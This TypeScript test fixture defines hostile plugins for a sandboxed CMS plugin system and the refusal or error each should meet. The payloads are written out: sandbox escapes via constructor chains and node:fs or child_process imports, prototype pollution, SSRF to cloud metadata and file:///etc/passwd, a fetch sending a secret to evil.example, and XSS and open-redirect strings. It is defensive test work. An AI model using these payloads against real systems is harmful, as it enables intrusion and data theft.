// Plugins that mean harm, each with what it gets.
import type { TestPlugin } from '../support/contained-plugins.ts';

/** A plugin that runs, and is asked at `/plugins/<name>/go`. */
export interface Exhibit {
  /** What it tries, in words. */
  tries: string;
  plugin: TestPlugin;
  /** Status of the answer; 503 where it does not come to one. */
  status: number;
  /** What the answer is like. */
  gets?: RegExp;
  /** What it was told in the end, which it keeps as the value `end`, for what goes on after the answer. */
  ends?: RegExp;
  /** Whether it costs a strike. */
  strike?: true;
  /** Whether it is about the engine, so that each engine has to stand it. */
  isEngines?: true;
}

/** A plugin that is not even set up. */
export interface Refused {
  tries: string;
  plugin: TestPlugin;
  because: RegExp;
}

const GO = { routes: { go: { path: '/go', access: 'public' } } };

type Parts = Partial<Pick<Exhibit, 'status' | 'gets' | 'ends' | 'strike' | 'isEngines'>> & {
  capabilities?: string[];
  contained?: Record<string, unknown>;
  /** Further handlers. */
  more?: string;
};

function exhibit(name: string, tries: string, go: string, parts: Parts): Exhibit {
  const { capabilities = [], contained = {}, more = '', status = 200, ...rest } = parts;
  const handlers = `routes: { go: ${go} }, ${more}`;
  return { tries, status, plugin: { name, capabilities, contained: { ...GO, ...contained }, handlers }, ...rest };
}

const FALLS = { status: 503, strike: true, isEngines: true } as const;
const FAILS = { status: 503, isEngines: true } as const;

/** They want time, memory, or a way out of their world. */
export const ENGINE_EXHIBITS: Exhibit[] = [
  exhibit('endless-loop', 'an endless loop', '() => { for (;;); }', FALLS),
  exhibit('regex-bomb', 'a regular expression without an end', `() => /^(a+)+$/.test('a'.repeat(60) + 'b')`, FALLS),
  exhibit('promise-storm', 'promises that make promises', 'async () => { for (;;) await null; }', FALLS),
  exhibit(
    'map-growth',
    'a map that grows',
    '() => { const m = new Map(); for (let i = 0; ; i++) m.set(i, { i }); }',
    FALLS,
  ),
  exhibit('array-growth', 'a list that grows', '() => { const a = []; for (;;) a.push({ a: [1, 2, 3] }); }', FALLS),
  exhibit(
    'string-growth',
    'a text that doubles',
    `() => { let s = 'x'; for (;;) { s += s; globalThis.s = s.split('').length; } }`,
    { status: 503, isEngines: true },
  ),
  exhibit('giant-join', 'a join of a hundred million', `() => new Array(1e8).fill('ab').join('x').length`, {
    status: 503,
    isEngines: true,
  }),
  exhibit(
    'giant-sort',
    'a sort of millions',
    '() => Array.from({ length: 3e6 }, (_, i) => (i * 7919) % 1e6).sort().length',
    { status: 503, isEngines: true },
  ),
  exhibit(
    'buffers',
    'memory outside of the heap',
    '() => { const a = []; for (;;) a.push(new Uint8Array(1e7).fill(1)); }',
    { status: 503, isEngines: true },
  ),
  exhibit('deep', 'a recursion without an end', '() => { const f = () => f() + 1; return { json: f() }; }', FAILS),
  exhibit('slow-json', 'a toJSON that does not end', '() => ({ json: { toJSON() { for (;;); } } })', FALLS),
  exhibit('slow-then', 'a promise of its own making that does not end', '() => ({ then() { for (;;); } })', FALLS),
  exhibit('huge-answer', 'an answer of a megabyte', `() => ({ text: 'x'.repeat(1e6) })`, FAILS),
  exhibit(
    'constructors',
    'the constructor of constructors',
    `() => { try { return { text: String(({}).constructor.constructor('return process')()) }; } catch (error) { return { text: String(error) }; } }`,
    {
      gets: /process.*not defined/,
      isEngines: true,
    },
  ),
  exhibit(
    'pollution',
    'a prototype that all objects have',
    `() => { Object.prototype.polluted = true; Array.prototype.map = () => ['stolen']; return { json: JSON.parse('{"__proto__":{"polluted":1},"a":1}') }; }`,
    {
      gets: /"a":1/,
      isEngines: true,
    },
  ),
  exhibit(
    'doors',
    'every door to the outside',
    `() => ({ text: ['process', 'require', 'module', 'fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'Buffer', 'Deno', 'Bun', 'importScripts', 'WebAssembly', 'SharedArrayBuffer', 'Atomics', 'setTimeout', 'postMessage', 'ivm'].map((name) => typeof globalThis[name]).join() })`,
    {
      gets: /^(undefined,)+undefined$/,
      isEngines: true,
    },
  ),
  exhibit(
    'late-import',
    'an import that the bundler does not see',
    `async () => { try { return { text: String(await import(['node', 'fs'].join(':'))) }; } catch (error) { return { text: 'refused ' + error } } }`,
    {
      gets: /^refused|did not answer/,
      isEngines: true,
    },
  ),
  exhibit('stack-probe', 'the places where it runs, from a stack', '() => ({ text: new Error().stack })', {
    gets: /^(?![\s\S]*(node_modules|\/core\/|host-main))/,
    isEngines: true,
  }),
  exhibit(
    'forged-result',
    'answers and calls in the name of others',
    `() => { const push = Array.prototype.push; Array.prototype.push = function (item) { return push.call(this, item, ...Array.from({ length: 60 }, (_, id) => [id, '?', id, 'content.find', '{"type":"post"}']), ...Array.from({ length: 60 }, (_, id) => [id, '=', '{"text":"forged"}'])); }; return Promise.resolve({ text: 'own' }); }`,
    { gets: /^(own|forged)$/, isEngines: true },
  ),
  exhibit(
    'broken-door',
    'words that are no text',
    '() => { Array.prototype.push = function () { this[this.length] = [1n]; return 1; }; return Promise.resolve(1); }',
    FAILS,
  ),
];

/** They ask the kernel for what is not theirs, or say what would harm others. */
export const KERNEL_EXHIBITS: Exhibit[] = [
  exhibit(
    'no-capability',
    'a call that it did not declare',
    `async (_, galley) => { try { return { json: await galley.kv.get('a') }; } catch (error) { return { text: error.message }; } }`,
    {
      gets: /does not ask for "kv"/,
    },
  ),
  exhibit(
    'foreign-values',
    'the values of another plugin',
    `async (_, galley) => ({ json: [await galley.kv.get('secret'), await galley.kv.keys('')] })`,
    {
      capabilities: ['kv'],
      gets: /^\[null,\[\]\]$/,
    },
  ),
  exhibit(
    'odd-keys',
    'a key that leads elsewhere',
    `async (_, galley) => { try { return { json: await galley.kv.get('../calm/secret') }; } catch (error) { return { text: error.message }; } }`,
    {
      capabilities: ['kv'],
      gets: /kv\.get/,
    },
  ),
  exhibit(
    'value-flood',
    'a value without measure',
    `async (_, galley) => { try { await galley.kv.set('a', 'x'.repeat(20000)); return { text: 'stored' }; } catch (error) { return { text: error.message }; } }`,
    {
      capabilities: ['kv'],
      gets: /at most 16384/,
    },
  ),
  exhibit(
    'log-flood',
    'a thousand lines of log',
    `async (_, galley) => { for (let i = 0; i < 1000; i++) galley.log.error('x'.repeat(900)); try { await galley.settings(); return { text: 'through' }; } catch (error) { return { text: error.message }; } }`,
    {
      capabilities: ['log', 'settings'],
      status: 503,
    },
  ),
  exhibit(
    'drafts',
    'what is not published',
    `async (_, galley) => { try { return { json: await galley.content.find({ type: 'post', status: 'draft' }) }; } catch (error) { return { text: error.message }; } }`,
    {
      capabilities: ['content:read:post'],
      gets: /content:read:post:draft/,
    },
  ),
  exhibit(
    'by-number',
    'drafts, pages and what has a password, by their numbers',
    `async (_, galley) => ({ json: (await Promise.all([1, 2, 3, 4, 5, 6, 7, 8].map((id) => galley.content.get(id)))).filter((entry) => entry && (entry.status !== 'publish' || entry.type !== 'post' || /sesame/.test(JSON.stringify(entry)))) })`,
    {
      capabilities: ['content:read:post'],
      gets: /^\[\]$/,
    },
  ),
  exhibit(
    'publisher',
    'to publish, with the right to write',
    `async (_, galley) => { try { await galley.content.save({ type: 'post', title: 'Bought', status: 'publish' }); return { text: 'published' }; } catch (error) { return { text: error.message }; } }`,
    {
      capabilities: ['content:read:post', 'content:write:post'],
      gets: /content:write:post:publish/,
    },
  ),
  exhibit(
    'script-writer',
    'a script in a draft',
    `async (_, galley) => ({ text: (await galley.content.save({ type: 'post', title: 'A', content: '<p onclick="x()">a<script>steal()</script></p>' })).content })`,
    {
      capabilities: ['content:read:post:draft', 'content:write:post'],
      gets: /^<p>a.*<\/p>$/,
    },
  ),
  exhibit(
    'echo',
    'to be told of what it saves, and to save that again, without an end',
    `async (_, galley) => { await galley.content.save({ type: 'post', title: 'Echo' }); return { text: 'begun' }; }`,
    {
      capabilities: ['kv', 'content:read:post:draft', 'content:write:post'],
      contained: { hooks: { 'entry:saved': { input: ['entry'] } } },
      more: `hooks: { 'entry:saved': async ({ entry }, galley) => {
        if (!entry.title.startsWith('Echo')) return;
        try { await galley.content.save({ id: entry.id, title: entry.title + '!' }); }
        catch (error) { await galley.kv.set('end', error.message); }
      } }`,
      gets: /begun/,
      ends: /fired each other 64 deep/,
    },
  ),
  exhibit(
    'row-flood',
    'more entries than it may make',
    `async (_, galley) => { for (let i = 0; i < 9; i++) try { await galley.content.save({ type: 'post', title: 'Row' }); } catch (error) { return { text: i + ' ' + error.message }; } }`,
    {
      capabilities: ['content:read:post:draft', 'content:write:post'],
      gets: /^5 .*has made 5 entries that are still there/,
    },
  ),
  exhibit(
    'save-flood',
    'three saves for each save of which it hears',
    `async (_, galley) => { await galley.content.save({ type: 'post', title: 'Flood' }); return { text: 'begun' }; }`,
    {
      capabilities: ['kv', 'content:read:post:draft', 'content:write:post'],
      contained: { hooks: { 'entry:saved': { input: ['entry'] } } },
      more: `hooks: { 'entry:saved': async ({ entry: { id, title } }, galley) => {
        if (!title.startsWith('Flood')) return;
        for (const mark of ['!', '?', '.'])
          try { await galley.content.save({ id, title: title + mark }); }
          catch (error) { if (/minute/.test(error.message)) await galley.kv.set('end', error.message); }
      } }`,
      gets: /begun/,
      ends: /has saved 60 entries within a minute/,
    },
  ),
  exhibit(
    'other-type',
    'an entry of a type that it did not name',
    `async (_, galley) => { try { await galley.content.save({ type: 'page', title: 'A' }); return { text: 'saved' }; } catch (error) { return { text: error.message }; } }`,
    {
      capabilities: ['content:write:post'],
      gets: /content:write:page/,
    },
  ),
  exhibit(
    'undeclared-host',
    'a host that it did not name',
    `async (_, galley) => { try { await galley.fetch('https://evil.example/?' + 'secret'); return { text: 'sent' }; } catch (error) { return { text: error.message }; } }`,
    {
      capabilities: ['fetch:good.example'],
      gets: /fetch:evil\.example/,
    },
  ),
  exhibit(
    'kernel-port',
    'the port of the site, and the address of the cloud',
    `async (_, galley) => ({ json: await Promise.all(['http://127.0.0.1:3000/', 'https://127.0.0.1/', 'https://169.254.169.254/latest/', 'https://127.0.0.1@evil.example/', 'file:///etc/passwd'].map((url) => galley.fetch(url).then(() => 'sent', () => 'refused'))) })`,
    {
      capabilities: ['fetch:127.0.0.1', 'fetch:169.254.169.254'],
      gets: /^\["refused","refused","refused","refused","refused"\]$/,
    },
  ),
  exhibit(
    'job-flood',
    'a queue full of jobs',
    `async (_, galley) => { for (let i = 0; i < 9; i++) await galley.jobs.enqueue('work', { i }); return { text: 'done' }; }`,
    {
      capabilities: ['jobs'],
      contained: { jobs: { work: { summary: 'Works.' } } },
      more: 'jobs: { work: () => null }',
      gets: /done/,
    },
  ),
  exhibit(
    'foreign-job',
    'a job of the site',
    `async (_, galley) => { try { await galley.jobs.enqueue('media-thumbnails'); return { text: 'queued' }; } catch (error) { return { text: error.message }; } }`,
    {
      capabilities: ['jobs'],
      gets: /declares no job/,
    },
  ),
  exhibit('cookie-thief', 'the cookies of whoever asks', '(input) => ({ text: JSON.stringify(input) })', {
    gets: /^\{"params":\{\},"query":\{\},"body":null,"isLoggedIn":(true|false)\}$/,
  }),
  exhibit(
    'html-answer',
    'a page with a script',
    `() => ({ html: '<h1>Hi</h1><script>steal()</script><img src=x onerror=steal()><a href="javascript:steal()">x</a><form action="https://evil.example"><input name=password></form>' })`,
    {
      gets: /^(?![\s\S]*(<script|onerror|javascript:|<form))[\s\S]*<h1>Hi<\/h1>/,
    },
  ),
  exhibit('sniffed', 'HTML that is sent as text', `() => ({ text: '<script>steal()</script>' })`, { gets: /steal/ }),
  exhibit('open-redirect', 'a way to another site', `() => ({ redirect: 'https://evil.example/' })`, { status: 503 }),
  exhibit('odd-redirect', 'the same with a backslash', `() => ({ redirect: '/\\\\evil.example' })`, { status: 503 }),
  exhibit(
    'deep-answer',
    'an answer that is nested too deep',
    `() => { let text = ''; for (let i = 0; i < 15000; i++) text += '['; return { json: JSON.parse(text + ']'.repeat(15000)) }; }`,
    { status: 503 },
  ),
  exhibit('odd-status', 'a status that caches and browsers act on', '() => ({ status: 301, text: "moved" })', {
    gets: /moved/,
  }),
];

const HEAD = { hooks: { 'view:head': { input: ['page.title'] } } };

/** Asked for each page; what stands there after is looked at in the test. */
export const PAGE_EXHIBITS: TestPlugin[] = [
  {
    name: 'head-xss',
    contained: HEAD,
    handlers: `hooks: { 'view:head': () => [
      { tag: 'script', attributes: { src: 'https://evil.example/head.js' } },
      { tag: 'meta', attributes: { 'http-equiv': 'refresh', content: '0;url=https://evil.example/refresh' } },
      { tag: 'meta', attributes: { name: 'a" onload="steal-name', content: 'x' } },
      { tag: 'meta', attributes: { name: 'description2', content: '"><script>steal-content()</script>' } },
      { tag: 'meta', attributes: { name: 'referrer', content: 'unsafe-url' } },
      { tag: 'link', attributes: { rel: 'stylesheet', href: 'https://evil.example/style.css' } },
      { tag: 'link', attributes: { rel: 'alternate', href: 'javascript:steal-link()' } },
      { tag: 'data', data: { name: '</script><script>steal-data()</script>' } },
      '<script>steal-raw()</script>', null, 7,
    ] }`,
  },
  {
    name: 'entry-xss',
    capabilities: ['content:read:post'],
    contained: { hooks: { 'entries:presenting': { input: ['id'] } } },
    handlers: `hooks: { 'entries:presenting': (entries) => entries.map(() => ({
      url: 'javascript:steal-url()', title: 'stolen', id: 1, content: { value: '<script>steal-body()</script>' }, protected: false,
      constructor: 'x', __proto__: { isAdmin: true }, fresh: 'added',
    })) }`,
  },
  {
    name: 'block-xss',
    contained: {
      blocks: { box: { title: 'Box', template: '<p class="{{cls}}"><a href="{{url link}}">{{text}}</a></p>' } },
    },
    handlers: `blocks: { box: ({ blocks }) => blocks.map(() => ({
      cls: '" onclick="steal-class()', link: 'javascript:steal-block()', text: '<img src=x onerror=steal-text()>',
    })) }`,
  },
  {
    name: 'template-bomb',
    contained: {
      blocks: {
        bomb: {
          title: 'Bomb',
          template: '{{#each a}}{{#each ../a}}{{#each ../../a}}{{this}}{{/each}}{{/each}}{{/each}}',
        },
      },
    },
    handlers: `blocks: { bomb: ({ blocks }) => blocks.map(() => ({ a: Array.from({ length: 3000 }, (_, i) => i) })) }`,
  },
  {
    name: 'admin-xss',
    contained: {
      hooks: { 'admin:dashboard': {}, 'admin:notices': {} },
      panels: { evil: { title: 'Evil' } },
    },
    handlers: `hooks: {
      'admin:dashboard': () => ({ title: '<script>steal-title()</script>', items: [{ title: 'x', url: 'javascript:steal-item()' }], links: [{ label: 'x', url: 'javascript:steal-widget()' }] }),
      'admin:notices': () => ({ kind: 'danger', text: 'Your session ended', link: { label: 'Log in', url: 'https://evil.example/notice' } }),
    },
    panels: { evil: () => ({ blocks: [
      { kind: 'text', text: '<script>steal-panel()</script>' },
      { kind: 'image', src: 'https://evil.example/pixel.png', alt: '' },
      { kind: 'button', label: 'x', url: 'javascript:steal-button()' },
      { kind: 'form', fields: [{ name: '_token', label: 'x', kind: 'text' }, { name: 'a', label: '"><script>steal-label()</script>', kind: 'file' }] },
      { kind: 'html', html: '<script>steal-html()</script>' },
      { kind: 'constructor' }, { kind: '__proto__' },
    ] }) }`,
  },
];

const refuse = (name: string, tries: string, plugin: Omit<TestPlugin, 'name'>, because: RegExp): Refused => ({
  tries,
  plugin: { name, ...plugin },
  because,
});
const withSource = (first: string): Pick<TestPlugin, 'source'> => ({
  source: `${first}\nimport { contained } from 'galley/contained';\nexport default contained({});\n`,
});

/** Refused before anything of theirs runs. */
export const REFUSED: Refused[] = [
  refuse(
    'unasked-frame',
    'a frame, without asking for it',
    { contained: { frames: { a: { script: 'a.js' } } }, files: { 'a.js': '' } },
    /does not ask for the capability "frames"/,
  ),
  refuse(
    'early-end',
    'a frame whose script ends before it should, with another behind it',
    {
      capabilities: ['frames'],
      contained: { frames: { a: { script: 'a.js' } } },
      files: { 'a.js': 'const a = "</script><script src=//evil.example/a.js>";' },
    },
    /would end it early/,
  ),
  refuse(
    'unasked-file',
    'a file of the whole site, without asking for it',
    { contained: { routes: { a: { path: '/', access: 'public', wellKnown: 'openid-configuration' } } } },
    /does not ask for the capability/,
  ),
  refuse('reads-files', 'an import of node:fs', withSource(`import 'node:fs';`), /belongs to Node/),
  refuse(
    'runs-programs',
    'a require of child_process',
    withSource(`const a = require('child_process'); globalThis.a = a;`),
    /belongs to Node/,
  ),
  refuse(
    'native-part',
    'a part in machine code',
    { ...withSource(`import './part.node';`), files: { 'part.node': 'ELF' } },
    /no script, JSON or text/,
  ),
  refuse(
    'climbs-out',
    'a file outside of its folder',
    withSource(`import secret from '../neighbour/package.json'; globalThis.s = secret;`),
    /outside of the plugin's folder/,
  ),
  refuse(
    'the-kernel',
    'an import of the kernel',
    withSource(`import { definePlugin } from 'galley'; globalThis.d = definePlugin;`),
    /import "galley\/contained"/,
  ),
  refuse(
    'too-large',
    'two megabytes of code',
    withSource(`globalThis.a = '${'x'.repeat(2_000_000)}';`),
    /at most 1048576/,
  ),
  refuse(
    'log-ins',
    'the hook of log-ins',
    { contained: { hooks: { 'login:succeeded': {} } } },
    /cannot handle the hook "login:succeeded"/,
  ),
  refuse(
    'each-second',
    'work in each second',
    {
      capabilities: ['cron'],
      contained: { cron: { tick: { schedule: '* * * * * *', summary: 'Ticks.' } } },
      handlers: 'cron: { tick: () => 1 }',
    },
    /five fields/,
  ),
  refuse(
    'raw-template',
    'a template that does not escape',
    { contained: { blocks: { a: { title: 'A', template: '<p>{{{x}}}</p>' } } } },
    /Unescaped/,
  ),
  refuse(
    'script-template',
    'a template with a script',
    { contained: { blocks: { a: { title: 'A', template: '<script>steal()</script>' } } } },
    /content security policy/,
  ),
  refuse(
    'handler-template',
    'a template with an event',
    { contained: { blocks: { a: { title: 'A', template: '<p onclick="steal()">x</p>' } } } },
    /onclick/,
  ),
  refuse(
    'looped-template',
    'a template with four loops in each other',
    { contained: { blocks: { a: { title: 'A', template: `${'{{#each a}}'.repeat(4)}x${'{{/each}}'.repeat(4)}` } } } },
    /more than 3 deep/,
  ),
  refuse(
    'proto-template',
    'a template that reads constructors',
    { contained: { blocks: { a: { title: 'A', template: '{{x.constructor.constructor}}' } } } },
    /may not be read/,
  ),
  refuse(
    'partial-template',
    'a template that takes in another',
    { contained: { blocks: { a: { title: 'A', template: '{{> head}}' } } } },
    /no partial/,
  ),
];

/** Manifests that are none. */
export const NO_MANIFESTS: Refused[] = [
  refuse(
    'climbing-path',
    'an address above its own',
    { contained: { routes: { a: { path: '/../../admin', access: 'public' } } } },
    /path/,
  ),
  refuse('odd-capability', 'a capability that there is not', { capabilities: ['everything'] }, /capabilities/),
  refuse(
    'climbing-frame',
    "a frame with somebody else's script",
    { contained: { frames: { a: { script: '../neighbour/index.js' } } } },
    /frames/,
  ),
  refuse(
    'climbing-file',
    'a file above those of the whole site',
    { contained: { routes: { a: { path: '/', access: 'public', wellKnown: '../admin' } } } },
    /wellKnown/,
  ),
  refuse('any-host', 'every host at once', { capabilities: ['fetch:*'] }, /capabilities/),
  refuse(
    'odd-field',
    'fields by way of a prototype',
    { contained: { hooks: { 'view:head': { input: ['__proto__.x'] } } } },
    /input/,
  ),
];
